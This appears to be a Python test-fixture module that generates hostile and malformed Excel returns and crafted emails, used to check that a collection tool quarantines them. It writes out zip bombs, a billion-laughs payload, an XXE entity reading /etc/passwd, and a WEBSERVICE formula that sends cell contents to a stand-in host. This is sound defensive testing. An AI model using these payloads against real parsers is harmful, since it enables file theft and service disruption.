"""A corpus of hostile and damaged returns, generated from one valid filled return.

Each entry is a file a unit (or an attacker) might send and what collect must do with it:
accept it with exactly these values, or quarantine it with this finding code. Nothing here
is a fake: every file is a real workbook (or a real broken one) read by the real collect.
"""

from __future__ import annotations

import io
import random
import re
import shutil
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import openpyxl

SHEET = "反馈表"
HEADER_ROW = 5
FIRST_ROW = 6


@dataclass
class Case:
    """One hostile file: its bytes, and either the values collect must keep or the code it must report."""

    name: str
    data: bytes
    code: str | None = None  # the finding that quarantines it; None: accepted
    values: dict[str, dict[str, str]] = field(default_factory=dict)  # task → header → value kept (when accepted)
    reason: str = ""  # words the finding's message must contain
    sender: str = ""  # mailed from this address (as an .eml) instead of dropped in the inbox folder


def _save(wb) -> bytes:
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _edit(valid: bytes, change: Callable) -> bytes:
    wb = openpyxl.load_workbook(io.BytesIO(valid))
    change(wb[SHEET] if SHEET in wb.sheetnames else wb.worksheets[0], wb)
    return _save(wb)


def _columns(ws) -> dict[str, int]:
    return {ws.cell(HEADER_ROW, c).value: c for c in range(1, ws.max_column + 1) if ws.cell(HEADER_ROW, c).value}


def _rows(ws) -> dict[str, int]:
    return {ws.cell(r, 1).value: r for r in range(FIRST_ROW, ws.max_row + 1) if ws.cell(r, 1).value}


def _rezip(valid: bytes, replace: dict[str, Callable[[bytes], bytes]]) -> bytes:
    """The same package with some members' bytes rewritten (as a hand-edited file would be)."""
    src = zipfile.ZipFile(io.BytesIO(valid))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            body = src.read(item.filename)
            if item.filename in replace:
                body = replace[item.filename](body)
            dst.writestr(item.filename, body)
    return out.getvalue()


def _bomb(total: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as fh:
            chunk = b" " * 2**20
            for _ in range(total // len(chunk)):
                fh.write(chunk)
    return out.getvalue()


def build_corpus(valid: bytes, answers: dict[str, dict[str, str]], *, other_key: bytes, superseded: bytes,
                 other_unit: bytes, sender: str, encrypt: Callable[[bytes], bytes]) -> list[Case]:
    """Every case of the issue's list, derived from ``valid`` (a correctly filled return whose
    typed answers are ``answers``). ``other_key``: the same return signed with another key;
    ``superseded``: a filled return of an issue since replaced; ``other_unit``: another unit's
    valid return, mailed from ``sender`` (this unit's address)."""
    rnd = random.Random(7)
    tasks = list(answers)
    first, second = tasks[0], tasks[1]
    cases = [
        Case("截断.xlsx", valid[: len(valid) // 2], "unreadable-file", reason="损坏"),
        Case("随机字节.xlsx", bytes(rnd.getrandbits(8) for _ in range(30000)), "unreadable-file"),
        Case("压缩炸弹-体积.xlsx", _bomb(100 * 2**20), "unreadable-file", reason="压缩炸弹"),
        Case("压缩炸弹-压缩比.xlsx", _bomb(8 * 2**20), "unreadable-file", reason="压缩比"),
        Case("实体膨胀.xlsx", _rezip(valid, {part: _billion_laughs for part in _sheet_parts(valid)[:1]}), "unreadable-file",
             reason="DOCTYPE"),
        Case("外部实体.xlsx", _rezip(valid, {part: _external_entity for part in _sheet_parts(valid)[:1]}), "unreadable-file",
             reason="DOCTYPE"),
        Case("加密.xlsx", encrypt(valid), "unreadable-file", reason="加密"),
        Case("工作表改名.xlsx", _edit(valid, lambda ws, wb: setattr(ws, "title", "Sheet1")), values=answers),
        Case("插入列.xlsx", _edit(valid, lambda ws, wb: ws.insert_cols(_columns(ws)["进展情况"])), values=answers),
        Case("删除列.xlsx", _edit(valid, lambda ws, wb: ws.delete_cols(_columns(ws)["进展情况"])), "missing-column"),
        Case("调换列.xlsx", _edit(valid, _swap_input_columns), values=answers),
        Case("插入空行.xlsx", _edit(valid, lambda ws, wb: ws.insert_rows(FIRST_ROW + 1)), values=answers),
        Case("插入任务行.xlsx", _edit(valid, _add_unknown_task), "unexpected-row"),
        Case("删除行.xlsx", _edit(valid, lambda ws, wb: ws.delete_rows(_rows(ws)[second])), "task-row-missing"),
        Case("行排序.xlsx", _edit(valid, _reverse_rows), values=answers),
        Case("合并单元格.xlsx", _edit(valid, _merge_progress), "merged-cells"),
        Case("公式.xlsx", _edit(valid, _formula), "formula-in-cell"),
        Case("超长文本.xlsx", _edit(valid, lambda ws, wb: _put(ws, first, "进展情况", "长" * 100_000)), "cell-too-long"),
        Case("他人密钥签名.xlsx", other_key, "bad-signature"),
        Case("已作废的下发.xlsx", superseded, "superseded-issue"),
        Case("他单位的表.xlsx", other_unit, "wrong-unit", sender=sender),
    ]
    leading = {first: {**answers[first], "进展情况": "=1+1 是文字", "存在问题及原因分析": "+86 电话", "下一步工作计划和意见建议": "-减少@提醒"}}
    cases.append(Case("等号开头.xlsx", _edit(valid, lambda ws, wb: _put_all(ws, leading)), values={**answers, **leading}))
    odd = {first: {**answers[first], "进展情况": "完成率１００％🎉，第二阶段启动", "存在问题及原因分析": "铃声\x07删除"}}
    kept = {first: {**odd[first], "存在问题及原因分析": "铃声删除"}}  # control characters are dropped, nothing else
    typed = {first: {**odd[first], "存在问题及原因分析": "铃声_x0007_删除"}}  # how Office stores a control character
    cases.append(Case("特殊字符.xlsx", _edit(valid, lambda ws, wb: _put_all(ws, typed)), values={**answers, **kept}))
    return cases


def _billion_laughs(body: bytes) -> bytes:
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{i} "{("&a" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    return _with_doctype(body, f"<!DOCTYPE worksheet [{entities}]>", "&a9;")


def _external_entity(body: bytes) -> bytes:
    return _with_doctype(body, '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;")


def _with_doctype(body: bytes, doctype: str, reference: str) -> bytes:
    text = body.decode("utf-8")
    declaration = re.match(r"<\?xml[^>]*\?>", text)
    at = declaration.end() if declaration else 0
    text = text[:at] + doctype + text[at:]
    text, n = re.subn(r"(<t(?:\s[^>]*)?>)", lambda m: m.group(1) + reference, text, count=1)
    assert n == 1, "no text cell to put the entity in"
    return text.encode("utf-8")


def _sheet_parts(valid: bytes) -> list[str]:
    return [n for n in zipfile.ZipFile(io.BytesIO(valid)).namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)]


def _put(ws, task: str, header: str, value: str) -> None:
    cell = ws.cell(_rows(ws)[task], _columns(ws)[header])
    cell.value = value
    cell.data_type = "s"


def _put_all(ws, answers: dict[str, dict[str, str]]) -> None:
    for task, values in answers.items():
        for header, value in values.items():
            _put(ws, task, header, value)


def _swap_input_columns(ws, wb) -> None:
    cols = _columns(ws)
    a, b = cols["进展情况"], cols["下一步工作计划和意见建议"]
    for r in range(HEADER_ROW, ws.max_row + 1):
        x, y = ws.cell(r, a), ws.cell(r, b)
        x.value, y.value = y.value, x.value


def _add_unknown_task(ws, wb) -> None:
    ws.insert_rows(FIRST_ROW)
    ws.cell(FIRST_ROW, 1, "2022-ZD-999")
    ws.cell(FIRST_ROW, _columns(ws)["进展情况"], "自行加入的任务")


def _reverse_rows(ws, wb) -> None:
    rows = sorted(_rows(ws).values())
    values = [[ws.cell(r, c).value for c in range(1, ws.max_column + 1)] for r in rows]
    for r, row in zip(rows, reversed(values)):
        for c, v in enumerate(row, 1):
            ws.cell(r, c).value = v
            if isinstance(v, str):
                ws.cell(r, c).data_type = "s"


def _merge_progress(ws, wb) -> None:
    rows = sorted(_rows(ws).values())[:2]
    col = _columns(ws)["进展情况"]
    letter = openpyxl.utils.get_column_letter(col)
    ws.merge_cells(f"{letter}{rows[0]}:{letter}{rows[1]}")


def _formula(ws, wb) -> None:
    cell = ws.cell(sorted(_rows(ws).values())[0], _columns(ws)["进展情况"])
    cell.value = '=WEBSERVICE("http://example.invalid/?"&A1)'


def copy_file(src: Path, dst: Path) -> Path:
    dst.parent.mkdir(parents=True, exist_ok=True)
    shutil.copy2(src, dst)
    return dst


# -- hostile mail ---------------------------------------------------------------------------------
# Messages are written byte by byte, as an attacker would, not through EmailMessage (which
# refuses to make most of them).


def mail_date(moment) -> str:
    """An RFC 5322 date of a naive Beijing time (or the text itself, for a crafted date)."""
    from datetime import timedelta, timezone
    from email.utils import format_datetime

    return moment if isinstance(moment, str) else format_datetime(moment.replace(tzinfo=timezone(timedelta(hours=8))))


def attachment_part(name: str, data: bytes) -> bytes:
    """One attachment, its name in RFC 2231 form (so it may hold anything: NUL, line breaks, 300 characters)."""
    import base64
    from urllib.parse import quote

    return (b"Content-Type: application/octet-stream\r\n"
            b"Content-Disposition: attachment; filename*=utf-8''" + quote(name, safe="").encode("ascii") + b"\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(data).replace(b"\n", b"\r\n"))


def forwarded_part(message: bytes) -> bytes:
    """A whole message attached to another (message/rfc822), as 转发为附件 does."""
    return (b"Content-Type: message/rfc822\r\nContent-Disposition: attachment; filename=\"fwd.eml\"\r\n\r\n" + message)


def multipart(parts: list[bytes], boundary: str) -> bytes:
    b = boundary.encode("ascii")
    body = b"".join(b"--" + b + b"\r\n" + p + b"\r\n" for p in parts)
    return b"Content-Type: multipart/mixed; boundary=\"" + b + b"\"\r\n\r\n" + body + b"--" + b + b"--\r\n"


def raw_mail(sender: str | None, parts: list[bytes], *, received=None, dated=None, nest: int = 0) -> bytes:
    """A message as the office's server stored it: ``Received`` (the server's line, when
    given), the sender's ``From`` (None: no From at all) and ``Date``, and the parts, wrapped in
    ``nest`` more levels of multipart."""
    head = []
    if received is not None:
        head.append(f"Received: from unit.example by mail.yuancheng.example; {mail_date(received)}")
    if sender is not None:
        head.append(f"From: {sender}")
    head += ["To: duchashi@yuancheng.example", "Subject: =?utf-8?b?5Zue5aSN?=", "MIME-Version: 1.0"]
    if dated is not None:
        head.append(f"Date: {mail_date(dated)}")
    body = multipart([b"Content-Type: text/plain; charset=utf-8\r\n\r\nok\r\n", *parts], "top")
    for level in range(nest):
        body = multipart([body], f"n{level}")
    return "\r\n".join(head).encode("utf-8") + b"\r\n" + body


def zip_with(valid: bytes, *, method: int | None = None, version: int | None = None) -> bytes:
    """The package with every member's compression method (9: Deflate64, which zipfile cannot
    inflate) or needed version (beyond what zipfile reads) patched in its headers."""
    import struct

    data = bytearray(valid)
    for signature, version_at, method_at in ((b"PK\x03\x04", 4, 8), (b"PK\x01\x02", 6, 10)):
        at = data.find(signature)
        while at >= 0:
            if method is not None:
                struct.pack_into("<H", data, at + method_at, method)
            if version is not None:
                struct.pack_into("<H", data, at + version_at, version)
            at = data.find(signature, at + 4)
    return bytes(data)


def without_cell_refs(valid: bytes, formula_at: tuple[str, str] | None = None) -> bytes:
    """The package with the visible sheet's cells and rows written without ``r=`` (valid
    OOXML: each follows the one before), optionally with a formula in cell ``formula_at``
    (column letters, row) — found by counting, as Excel reads it."""
    def rewrite(body: bytes) -> bytes:
        text = body.decode("utf-8")
        if formula_at is not None:
            col, row = formula_at
            text, n = re.subn(rf'(<c r="{col}{row}"[^>]*?)(?:/>|>(.*?)</c>)',
                              lambda m: m.group(1).replace(' t="s"', "").replace(' t="inlineStr"', "")
                              + '><f>WEBSERVICE("http://example.invalid/")</f><v>1</v></c>', text, count=1, flags=re.S)
            assert n == 1, "no such cell"
        text = re.sub(r'(<c\b[^>]*?)\s+r="[A-Z]+\d+"', r"\1", text)
        return re.sub(r'(<row\b[^>]*?)\s+r="\d+"', r"\1", text).encode("utf-8")

    return _rezip(valid, {_sheet_parts(valid)[0]: rewrite})


def padded(valid: bytes, rows: int) -> bytes:
    """The package with ``rows`` filled rows appended to the visible sheet (written as XML
    directly: openpyxl would take minutes)."""
    def rewrite(body: bytes) -> bytes:
        last = max(int(n) for n in re.findall(rb'<row r="(\d+)"', body))
        extra = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c><c r="C%d" t="inlineStr"><is><t>y</t></is></c></row>'
                         % (n, n, n) for n in range(last + 1, last + 1 + rows))
        body = re.sub(rb'<dimension ref="[^"]*"/>', b"", body)
        return body.replace(b"</sheetData>", extra + b"</sheetData>", 1)

    return _rezip(valid, {_sheet_parts(valid)[0]: rewrite})


def with_part(valid: bytes, name: str, body: bytes) -> bytes:
    """The package with one more part."""
    out = io.BytesIO(valid)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as z:
        z.writestr(name, body)
    return out.getvalue()
